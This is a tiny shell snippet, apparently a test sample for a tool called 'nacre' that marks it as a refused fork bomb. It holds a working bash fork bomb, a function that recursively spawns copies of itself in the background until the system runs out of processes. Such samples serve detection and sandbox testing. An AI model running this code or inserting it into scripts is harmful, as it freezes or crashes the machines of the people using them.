# nacre: refused process.fork-bomb
bomb() {
    bomb | bomb &
}
bomb
